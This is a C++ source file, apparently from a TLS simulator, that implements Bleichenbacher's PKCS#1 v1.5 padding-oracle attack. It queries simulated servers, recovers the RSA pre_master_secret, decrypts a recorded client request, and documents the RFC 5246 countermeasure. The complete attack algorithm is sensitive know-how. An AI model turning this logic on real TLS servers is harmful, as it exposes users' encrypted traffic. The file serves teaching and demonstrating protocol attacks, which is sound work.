// bleichenbacher (Bleichenbacher, CRYPTO 1998; ROBOT, 2017): a passive attacker records an RSA
// key transport session, takes the EncryptedPreMasterSecret c from ClientKeyExchange and the
// server's public key (n, e) from Certificate, then uses the server as a PKCS#1 v1.5 padding
// oracle. Each query is a fresh server of the run's configuration, fed the recorded ClientHello
// and a ClientKeyExchange carrying c' = c * s^e mod n: c' decrypts to m * s mod n, and a server
// that answers a malformed block with its own alert (Leniency::reveal_rsa_padding_error) tells
// whether m * s mod n starts with 00 02. Each "yes" narrows the interval that holds m (steps 2a,
// 2b, 2c, 3 and 4 of the paper) until one value is left: the padded block whose last 48 bytes are
// the pre_master_secret. With the master secret from it and the two recorded randoms, the
// attacker decrypts the recorded request. The defense is RFC 5246 7.4.7.1's: a malformed block
// goes on with a random pre_master_secret, so every query fails the same way, at Finished.
#include <chrono>
#include <utility>

#include <crypto++/integer.h>
#include <crypto++/nbtheory.h>

#include "attack/script.hpp"
#include "crypto/crypto.hpp"
#include "hs/key_schedule.hpp"
#include "pki/cert.hpp"
#include "record/protection.hpp"

namespace sim::attack {

namespace {

using CryptoPP::Integer;

constexpr size_t kHeader = 5;
constexpr size_t kKeptQueries = 64;  // queries whose bytes the report keeps (for the capture)

Integer to_integer(ByteView b) { return Integer(b.data(), b.size()); }
Bytes integer_bytes(const Integer& x, size_t n) {
  Bytes out(n);
  x.Encode(out.data(), n);
  return out;
}
// Floor and ceiling of a / d for d > 0, whatever the sign of a.
Integer floor_div(const Integer& a, const Integer& d) {
  Integer r, q;
  Integer::Divide(r, q, a, d);
  if (r.IsNegative()) --q;  // truncated toward zero: one less for a negative a
  return q;
}
Integer ceil_div(const Integer& a, const Integer& d) { return -floor_div(-a, d); }

struct Interval {
  Integer a, b;
};

// log2 of the number of values left for m, rounded down: how much the attacker still lacks.
unsigned width_bits(const std::vector<Interval>& m) {
  Integer w = Integer::Zero();
  for (auto& i : m) w += i.b - i.a + 1;
  return w.IsPositive() ? w.BitCount() - 1 : 0;
}

uint32_t be(ByteView b, size_t at, size_t n) {
  uint32_t v = 0;
  for (size_t i = 0; i < n; ++i) v = v << 8 | b[at + i];
  return v;
}

// The alert in a server's answer (its records, in the clear before its ChangeCipherSpec); -1
// when it sent none.
int answered_alert(ByteView answer) {
  for (size_t p = 0; p + kHeader <= answer.size();) {
    size_t len = be(answer, p + 3, 2);
    if (answer[p] == uint8_t(ContentType::alert) && len == 2 && p + kHeader + 2 <= answer.size()) return answer[p + 6];
    p += kHeader + len;
  }
  return -1;
}

// What the attacker read of the recorded session, all of it in the clear on the wire.
struct Recorded {
  Bytes client_hello;  // the ClientHello record(s), resent to each fresh server
  Bytes client_random, server_random;
  uint16_t version = 0;
  const CipherSuiteInfo* suite = nullptr;
  bool deflate = false, ems = false;
  Bytes modulus, exponent;  // the server's public key, from its certificate
  Bytes c;                  // EncryptedPreMasterSecret
  Bytes transcript;         // handshake messages up to ClientKeyExchange (the EMS session_hash)
  std::optional<uint32_t> cke_event;
  // The client's records after its ChangeCipherSpec (Finished, then the request), and their events.
  std::vector<Bytes> client_protected;
  std::vector<uint32_t> client_protected_events;
};

class Bleichenbacher : public Script {
 public:
  explicit Bleichenbacher(const ScenarioOptions& o) : opts_(o) {
    won_ = msg("attack.bleichenbacher.succeeded");
    lost_ = msg("attack.bleichenbacher.failed");
    // The default finishes a 512-bit key: with this oracle (a conforming block needs its 00
    // separator too) the original algorithm takes about 2^18 queries for most keys and messages,
    // 1.6 million at worst in 40 sampled runs.
    budget_ = o.query_budget ? o.query_budget : 2'000'000;
  }

  bool has_analysis() const override { return true; }

  void analyze(const Trace& t, Progress& p) override {
    analyzed_ = true;
    seconds_ = timed([&] {
      if (learn(t)) run(p);
    });
    cancelled_ = p.cancelled();
  }

  std::optional<AttackReport> report(const Trace& t, bool over) const override {
    AttackReport r = make_report(won_, lost_, t, over, succeeded(t), evidence(t));
    set_work(r, queries_, "queries", cancelled_, seconds_, kept_);
    std::string q = std::to_string(queries_), bits = std::to_string(bits_);
    if (r.succeeded == true) {
      r.summary = msg("attack.bleichenbacher.succeeded_after").arg("queries", q);
    } else if (r.succeeded == false && !r.stopped_by_alert && analyzed_) {
      if (!rec_.suite)
        r.summary = msg("attack.bleichenbacher.failed_no_rsa");
      else if (cancelled_)
        r.summary = msg("attack.bleichenbacher.failed_cancelled").arg("queries", q).arg("bits", bits);
      else if (inconsistent_)
        r.summary = msg("attack.bleichenbacher.failed_inconsistent").arg("queries", q);
      else if (!oracle_seen_)
        r.summary = msg("attack.bleichenbacher.failed_no_oracle")
                        .arg("queries", q)
                        .arg("alert", bad_alert_ < 0 ? std::string("-") : std::string(name_of(AlertDescription(bad_alert_))));
      else if (!m_)
        r.summary = msg("attack.bleichenbacher.failed_budget").arg("queries", q).arg("bits", bits);
    }
    return r;
  }

 protected:
  // The recovered pre_master_secret opened the client's own Finished and request.
  bool succeeded(const Trace&) const override { return !request_.empty(); }

  std::vector<AttackEvidence> evidence(const Trace&) const override {
    std::vector<AttackEvidence> ev;
    if (!rec_.c.empty())
      ev.push_back(hex_evidence("encrypted_pre_master_secret", msg("evidence.bleichenbacher.ciphertext"), rec_.c, rec_.cke_event));
    if (analyzed_ && rec_.suite) {
      ev.push_back(text_evidence("queries", msg("evidence.bleichenbacher.queries"), to_bytes(std::to_string(queries_))));
      ev.push_back(text_evidence("interval", msg("evidence.bleichenbacher.interval"), to_bytes(interval_text_)));
    }
    if (!pms_.empty()) ev.push_back(hex_evidence("pre_master_secret", msg("evidence.bleichenbacher.pre_master_secret"), pms_));
    if (!request_.empty())
      ev.push_back(text_evidence("request_read", msg("evidence.bleichenbacher.request"), request_, request_event_));
    return ev;
  }

 private:
  // ---- what crossed the wire ----
  bool learn(const Trace& t) {
    Recorded r;
    Bytes stream[2];        // handshake bytes not yet parsed, per direction (0: client)
    bool ccs[2] = {false, false};
    bool hello_done = false;
    for (size_t i = 0; i < t.events.size(); ++i) {
      const Event& e = t.events[i];
      if (e.connection != 1 || e.attack || e.bytes.size() < kHeader) continue;
      if (e.from != Actor::client && e.from != Actor::server) continue;
      int dir = e.from == Actor::client ? 0 : 1;
      uint8_t type = e.bytes[0];
      if (ccs[dir]) {
        if (dir == 0) {
          r.client_protected.push_back(e.bytes);
          r.client_protected_events.push_back(uint32_t(i));
        }
        continue;
      }
      if (type == uint8_t(ContentType::change_cipher_spec)) {
        ccs[dir] = true;
        continue;
      }
      if (type != uint8_t(ContentType::handshake)) continue;
      if (dir == 0 && !hello_done) r.client_hello.insert(r.client_hello.end(), e.bytes.begin(), e.bytes.end());
      stream[dir].insert(stream[dir].end(), e.bytes.begin() + kHeader, e.bytes.end());
      // Every complete message, in the order the records came.
      while (stream[dir].size() >= 4 && stream[dir].size() >= 4 + be(stream[dir], 1, 3)) {
        size_t len = be(stream[dir], 1, 3);
        Bytes m(stream[dir].begin(), stream[dir].begin() + long(4 + len));
        stream[dir].erase(stream[dir].begin(), stream[dir].begin() + long(4 + len));
        if (!message(r, HandshakeType(m[0]), ByteView(m).subspan(4), uint32_t(i))) return false;
        if (HandshakeType(m[0]) == HandshakeType::client_hello) hello_done = true;
        if (r.c.empty() || HandshakeType(m[0]) == HandshakeType::client_key_exchange) r.transcript.insert(r.transcript.end(), m.begin(), m.end());
      }
    }
    bool rsa = r.suite && (r.suite->kx == KeyExchange::rsa || r.suite->kx == KeyExchange::rsa_export);
    bool ok = rsa && !r.c.empty() && !r.modulus.empty() && r.client_random.size() == 32 && r.server_random.size() == 32 &&
              !r.client_protected.empty();
    if (!ok) r.suite = nullptr;  // nothing to attack
    rec_ = std::move(r);
    return ok;
  }

  static bool message(Recorded& r, HandshakeType type, ByteView b, uint32_t event) {
    switch (type) {
      case HandshakeType::client_hello:
        if (b.size() < 34) return false;
        r.client_random.assign(b.begin() + 2, b.begin() + 34);
        break;
      case HandshakeType::server_hello: {
        if (b.size() < 35) return false;
        r.version = uint16_t(be(b, 0, 2));
        r.server_random.assign(b.begin() + 2, b.begin() + 34);
        size_t p = 35 + b[34];
        if (b.size() < p + 3) return false;
        r.suite = suite_by_id(uint16_t(be(b, p, 2)));
        r.deflate = b[p + 2] == 1;
        p += 3;
        if (b.size() >= p + 2) {
          size_t end = std::min(b.size(), p + 2 + be(b, p, 2));
          for (p += 2; p + 4 <= end; p += 4 + be(b, p + 2, 2))
            if (be(b, p, 2) == 0x0017) r.ems = true;  // extended_master_secret (RFC 7627)
        }
        break;
      }
      case HandshakeType::certificate: {
        if (b.size() < 6 || !r.modulus.empty()) break;
        size_t len = be(b, 3, 3);
        if (b.size() < 6 + len) return false;
        auto spki = pki::certificate_spki(b.subspan(6, len));
        if (spki.ok()) crypto::rsa_components(*spki, &r.modulus, &r.exponent);
        break;
      }
      case HandshakeType::server_key_exchange:
        // RSA_EXPORT with a longer certificate key: the key transport uses the temporary key.
        if (r.suite && r.suite->kx == KeyExchange::rsa_export && b.size() >= 2) {
          size_t ml = be(b, 0, 2);
          if (b.size() < 2 + ml + 2) return false;
          size_t el = be(b, 2 + ml, 2);
          if (b.size() < 4 + ml + el) return false;
          r.modulus.assign(b.begin() + 2, b.begin() + long(2 + ml));
          r.exponent.assign(b.begin() + long(4 + ml), b.begin() + long(4 + ml + el));
        }
        break;
      case HandshakeType::client_key_exchange:
        // SSL 3.0 sends the bare ciphertext; TLS prefixes its length (RFC 5246 7.4.7.1).
        if (r.version == kSsl3) {
          r.c.assign(b.begin(), b.end());
        } else {
          if (b.size() < 2 || b.size() != 2 + be(b, 0, 2)) return false;
          r.c.assign(b.begin() + 2, b.end());
        }
        r.cke_event = event;
        break;
      default: break;
    }
    return true;
  }

  // ---- the oracle: one fresh server per query ----
  struct Answer {
    int alert = -1;
  };

  Bytes record(uint8_t type, ByteView fragment) const {
    return make_record(type, uint8_t(rec_.version >> 8), uint8_t(rec_.version), fragment);
  }

  // The ClientKeyExchange carrying c', the ChangeCipherSpec and a Finished (the client's own
  // recorded one: under this query's keys it cannot verify), in one segment.
  Bytes key_exchange_flight(const Integer& cp) const {
    Bytes ct = integer_bytes(cp, k_);
    Bytes body;
    if (rec_.version != kSsl3) body = {uint8_t(ct.size() >> 8), uint8_t(ct.size())};
    body.insert(body.end(), ct.begin(), ct.end());
    Bytes msg_bytes = {uint8_t(HandshakeType::client_key_exchange), uint8_t(body.size() >> 16), uint8_t(body.size() >> 8),
                       uint8_t(body.size())};
    msg_bytes.insert(msg_bytes.end(), body.begin(), body.end());
    Bytes out = record(uint8_t(ContentType::handshake), msg_bytes);
    Bytes ccs = record(uint8_t(ContentType::change_cipher_spec), Bytes{1});
    out.insert(out.end(), ccs.begin(), ccs.end());
    const Bytes& fin = rec_.client_protected.front();
    out.insert(out.end(), fin.begin(), fin.end());
    return out;
  }

  static Bytes sent_bytes(Connection& c) {
    Bytes out;
    for (const Event& e : c.take_sent()) out.insert(out.end(), e.bytes.begin(), e.bytes.end());
    return out;
  }

  Answer ask_server(const Integer& cp, Progress& p) {
    auto server = make_server(server_cfg_, opts_.seed + 1 + queries_);
    server->set_recording(false);  // only its records' bytes are read
    server->start();
    server->receive(rec_.client_hello);
    Bytes flight = sent_bytes(*server);
    Bytes to_server = key_exchange_flight(cp);
    Bytes answer;
    if (!server->failed()) {
      server->receive(to_server);
      answer = sent_bytes(*server);
    }
    ++queries_;
    p.add();
    if (kept_.size() < kKeptQueries) {
      AttackQuery q;
      q.to_server = rec_.client_hello;
      q.to_server.insert(q.to_server.end(), to_server.begin(), to_server.end());
      q.to_client = std::move(flight);
      q.to_client.insert(q.to_client.end(), answer.begin(), answer.end());
      kept_.push_back(std::move(q));
    }
    return {answered_alert(answer)};
  }

  // Is c * s^e mod n PKCS#1 conforming, as the server's answer tells? nullopt: no more queries.
  std::optional<bool> oracle(const Integer& s, Progress& p) {
    if (queries_ >= budget_ || p.cancelled()) return std::nullopt;
    Integer cp = a_times_b_mod_c(c_, a_exp_b_mod_c(s, e_, n_), n_);
    bool yes = ask_server(cp, p).alert != bad_alert_;
    if (yes) oracle_seen_ = true;
    return yes;
  }

  void set_interval(const std::vector<Interval>& m, Progress& p) {
    bits_ = width_bits(m);
    p.set_partial("interval: 2^" + std::to_string(bits_));
    if (m.size() == 1)
      interval_text_ = "[" + to_hex(integer_bytes(m[0].a, k_)) + ", " + to_hex(integer_bytes(m[0].b, k_)) + "] (2^" +
                       std::to_string(bits_) + ")";
    else
      interval_text_ = std::to_string(m.size()) + " intervals (2^" + std::to_string(bits_) + ")";
  }

  // Bleichenbacher 1998, section 3.1. c is a real client's ciphertext, so already conforming:
  // step 1 (blinding) is s0 = 1, M0 = {[2B, 3B - 1]}.
  void run(Progress& p) {
    n_ = to_integer(rec_.modulus);
    e_ = to_integer(rec_.exponent);
    c_ = to_integer(rec_.c);
    k_ = rec_.modulus.size();
    while (k_ > 0 && rec_.modulus[rec_.modulus.size() - k_] == 0) --k_;
    server_cfg_ = server_config(opts_);
    p.set_total(budget_);
    const Integer B = Integer::Power2(8 * (k_ - 2)), B2 = 2 * B, B3 = 3 * B;
    // What does the server answer to a surely malformed block? 2m is in [4B, 6B): 00 04 or 00 05.
    bad_alert_ = ask_server(a_times_b_mod_c(c_, a_exp_b_mod_c(Integer::Two(), e_, n_), n_), p).alert;
    std::vector<Interval> m = {{B2, B3 - 1}};
    set_interval(m, p);
    Integer s;
    for (int i = 1;; ++i) {
      if (i == 1) {
        // Step 2a: the smallest s >= n / 3B that gives a conforming block.
        for (s = ceil_div(n_, B3);; ++s) {
          auto ok = oracle(s, p);
          if (!ok) return;
          if (*ok) break;
        }
      } else if (m.size() > 1) {
        // Step 2b: several intervals left, the next conforming s.
        for (++s;; ++s) {
          auto ok = oracle(s, p);
          if (!ok) return;
          if (*ok) break;
        }
      } else {
        // Step 2c: one interval [a, b]; r and s that about halve it each time.
        const Integer &a = m[0].a, &b = m[0].b;
        bool found = false;
        for (Integer r = ceil_div(2 * (b * s - B2), n_); !found; ++r) {
          Integer hi = floor_div(B3 - 1 + r * n_, a);
          for (Integer si = ceil_div(B2 + r * n_, b); si <= hi; ++si) {
            auto ok = oracle(si, p);
            if (!ok) return;
            if (*ok) {
              s = si;
              found = true;
              break;
            }
          }
        }
      }
      // Step 3: the values of m that s allows, for each r.
      std::vector<Interval> next;
      for (auto& in : m) {
        Integer r_hi = floor_div(in.b * s - B2, n_);
        for (Integer r = ceil_div(in.a * s - B3 + 1, n_); r <= r_hi; ++r) {
          Integer lo = std::max(in.a, ceil_div(B2 + r * n_, s)), hi = std::min(in.b, floor_div(B3 - 1 + r * n_, s));
          if (lo > hi) continue;
          bool merged = false;
          for (auto& x : next)
            if (!(hi < x.a || lo > x.b)) {
              x.a = std::min(x.a, lo);
              x.b = std::max(x.b, hi);
              merged = true;
            }
          if (!merged) next.push_back({lo, hi});
        }
      }
      if (next.empty()) {
        inconsistent_ = true;  // answers that no m fits: not the oracle the attack assumed
        return;
      }
      m = std::move(next);
      set_interval(m, p);
      // Step 4: one value left.
      if (m.size() == 1 && m[0].a == m[0].b) {
        m_ = m[0].a;
        finish();
        return;
      }
    }
  }

  // The pre_master_secret is the last 48 bytes of the block; the master secret and keys follow
  // from the recorded randoms with the engine's own key schedule, and open the client's records.
  void finish() {
    Bytes block = integer_bytes(*m_, k_);
    if (block.size() < 48) return;
    pms_.assign(block.end() - 48, block.end());
    const CipherSuiteInfo& s = *rec_.suite;
    std::optional<ByteView> ems;
    if (rec_.ems) ems = ByteView(rec_.transcript);
    Derivation ms = derive_master(Actor::attacker, rec_.version, s, pms_, rec_.client_random, rec_.server_random, ems);
    Derivation kb = derive_keys(Actor::attacker, rec_.version, s, ms.output, rec_.client_random, rec_.server_random);
    auto exp = derive_export_keys(Actor::attacker, rec_.version, s, kb, rec_.client_random, rec_.server_random);
    KeyBlock k = key_material(rec_.version, s, kb, exp);
    CipherState cs = CipherState::make(&s, rec_.version, "client_write", k.client_write_mac_key, k.client_write_key,
                                       k.client_write_iv, rec_.deflate, false);
    Bytes request;
    for (size_t i = 0; i < rec_.client_protected.size(); ++i) {
      const Bytes& r = rec_.client_protected[i];
      Derivation d;
      InnerLayout inner;
      auto plain = open_record(cs, Actor::attacker, ContentType(r[0]), uint16_t(r[1] << 8 | r[2]),
                               ByteView(r).subspan(kHeader), &d, &inner);
      if (!plain.ok()) return;  // the Finished does not open: not the client's secret
      if (r[0] == uint8_t(ContentType::application_data)) {
        if (request.empty()) request_event_ = rec_.client_protected_events[i];
        request.insert(request.end(), plain->begin(), plain->end());
      }
    }
    request_ = std::move(request);
  }

  ScenarioOptions opts_;
  ServerConfig server_cfg_;
  uint64_t budget_ = 0, queries_ = 0;
  Recorded rec_;
  Integer n_, e_, c_;
  size_t k_ = 0;
  int bad_alert_ = -1;
  bool analyzed_ = false, cancelled_ = false, oracle_seen_ = false, inconsistent_ = false;
  unsigned bits_ = 0;
  std::string interval_text_;
  std::optional<Integer> m_;
  Bytes pms_, request_;
  std::optional<uint32_t> request_event_;
  std::vector<AttackQuery> kept_;
  double seconds_ = 0;
};

}  // namespace

std::shared_ptr<Attacker> bleichenbacher(const ScenarioOptions& o) { return std::make_shared<Bleichenbacher>(o); }

}  // namespace sim::attack
